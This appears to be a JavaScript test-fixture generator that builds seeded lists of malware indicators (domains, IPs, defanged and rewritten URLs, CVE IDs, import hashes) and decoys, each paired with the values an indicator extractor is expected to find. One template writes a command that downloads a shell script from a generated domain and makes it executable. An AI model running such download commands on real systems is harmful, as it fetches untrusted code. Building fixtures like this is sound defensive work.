/**
 * Lists of indicators in the shapes in which the published ones lose them: each class has a text,
 * what is in it, and what only looks as if it were. Always the same for a seed.
 */

import { generator } from "../random.js";

const AMBIGUOUS = ["cc", "app", "id", "name", "sh", "rs", "py", "md", "zip", "so"];
const PLAIN = ["com", "net", "org", "ru", "top", "xyz", "info"];

/** How many indicators a class has. */
const COUNT = 300;

/**
 * @typedef {{ text: string, expected: Set<string> }} Class `expected` as `kind value`, where a kind
 * is domain, address, url, hash, cve or email.
 */

/** Every class by its name. @returns {Record<string, Class>} */
export function classes(seed = 1) {
  const made = maker(seed);
  const ambiguous = () => made.domain(AMBIGUOUS);
  const plain = () => made.domain(PLAIN);
  return {
    "ambiguous domain, alone on its line": list(ambiguous, (name) => name, "domain"),
    "ambiguous domain, in a column of CSV": list(ambiguous, (name, at) => `${at},${name},malware,2026-01-01`, "domain"),
    "ambiguous domain, quoted as a value": list(ambiguous, (name) => `  {"value": "${name}", "count": 3},`, "domain"),
    "ambiguous domain, in a file of hosts": list(ambiguous, (name) => `0.0.0.0 ${name}`, "domain", ["address 0.0.0.0"]),
    "ambiguous domain, with a port": list(ambiguous, (name) => `beacons go to ${name}:8443 each hour`, "domain"),
    "ambiguous domain, of three labels": list(
      () => `a${ambiguous()}`.replace(".", "-x."),
      (name) => `seen at cdn.${name} then`,
      "domain",
      [],
      (name) => `cdn.${name}`,
    ),
    "domain whose first label is of code": list(
      () => `e.${plain()}`,
      (name) => `- ${name} (C2)`,
      "domain",
    ),
    "domain in random case": list(plain, (name) => `query[A] ${made.shuffleCase(name)} from host`, "domain"),
    "behind an escape of JSON": list(plain, (name) => `"found:\\n${name}\\tand more"`, "domain"),
    "URL before a command": list(
      () => `http://${plain()}/a.sh`,
      (link) => `wget ${link};chmod 777 a.sh`,
      "url",
    ),
    "URL with a defanged scheme": list(
      () => `http://${plain()}/a`,
      (link) => made.defangScheme(link),
      "url",
    ),
    "address with a port behind a dot": list(made.address, (ip) => `IP ${ip}.50123 > 10.0.0.1.443: Flags`, "address", [
      "address 10.0.0.1",
    ]),
    "rewritten link": list(() => `http://${plain()}/a?b=1`, made.wrap, "url"),
    "CVE number in a rule's spelling": list(made.cve, (cve) => `tags: ${made.respell(cve)}`, "cve"),
    "import hash": list(made.hash, (hash) => `imphash: ${hash}`, "hash", [], null),
    "import hash, in a list": list(
      made.hash,
      (hash, at) => (at ? `  - ${hash}` : `imphash:\n  - ${hash}`),
      "hash",
      [],
      null,
    ),
    "version in an advisory": list(made.version, made.advisory, "address", [], null),
    "name of code": list(
      () => made.pick(["http.host", "user.id", "logger.info", "tcp.stream", "file.name"]),
      (name) => `if ${name} == 1:`,
      "domain",
      [],
      null,
    ),
    file: list(
      () => `${made.word(6)}.${made.pick(["zip", "py", "sh", "rs", "md"])}`,
      (name) => `it dropped ${name} and left`,
      "domain",
      [],
      null,
    ),
  };
}

/**
 * @param {() => string} next
 * @param {(value: string, at: number) => string} write
 * @param {string} kind
 * @param {string[]} beside what stands in each line, too
 * @param {((value: string) => string) | null} meant what is to be found, where that is not the
 * value; null: nothing
 */
function list(next, write, kind, beside = [], meant = (value) => value) {
  const values = [...new Set(Array.from({ length: COUNT }, next))];
  const expected = new Set(meant ? [...values.map((value) => `${kind} ${meant(value)}`), ...beside] : beside);
  return { text: `${values.map(write).join("\n")}\n`, expected };
}

function maker(seed) {
  const random = generator(seed);
  const pick = (from) => from[Math.floor(random() * from.length)];
  const word = (length, letters = "abcdefghijklmnoprstuvz") => Array.from({ length }, () => pick(letters)).join("");
  const octet = () => 1 + Math.floor(random() * 254);
  return {
    pick,
    word,
    domain: (tlds) => `${word(4 + Math.floor(random() * 9))}${pick(["", "-x", "24"])}.${pick(tlds)}`,
    address: () => [11 + Math.floor(random() * 200), octet(), octet(), octet()].join("."),
    hash: () => `a${word(31, "0123456789abcdef")}`,
    cve: () => `CVE-20${10 + Math.floor(random() * 16)}-${1000 + Math.floor(random() * 60_000)}`,
    version: () =>
      [1 + Math.floor(random() * 20), Math.floor(random() * 10), Math.floor(random() * 10), octet()].join("."),
    respell: (cve) => pick([cve.toLowerCase().replace("-", "."), cve.replaceAll("-", "_"), cve.replace("-", " ")]),
    defangScheme: (link) => link.replace("http", pick(["h[tt]p", "h00p", "hxxxp", "hXXp", "hxxp"])),
    shuffleCase: (name) =>
      `${name.slice(0, -2)}${name.at(-2).toLowerCase()}${name.at(-1).toUpperCase()}`.replace(/^./, (first) =>
        first.toUpperCase(),
      ),
    wrap: (link) =>
      pick([
        `https://eur01.safelinks.protection.outlook.com/?url=${encodeURIComponent(link)}&data=05&reserved=0`,
        `https://urldefense.com/v3/__${link}__;!!AbC!dEf$`,
        `https://www.google.com/url?q=${encodeURIComponent(link)}&sa=D`,
        `https://l.facebook.com/l.php?u=${encodeURIComponent(link)}&h=AT0`,
      ]),
    advisory: (version) =>
      pick([
        `All versions before ${version} are affected.`,
        `"category": "product_version", "name": "${version}"`,
        `"name": "<= ${version}"`,
        `Update to ${version} or later.`,
        `The vendor fixed it in version ${version}.`,
      ]),
  };
}
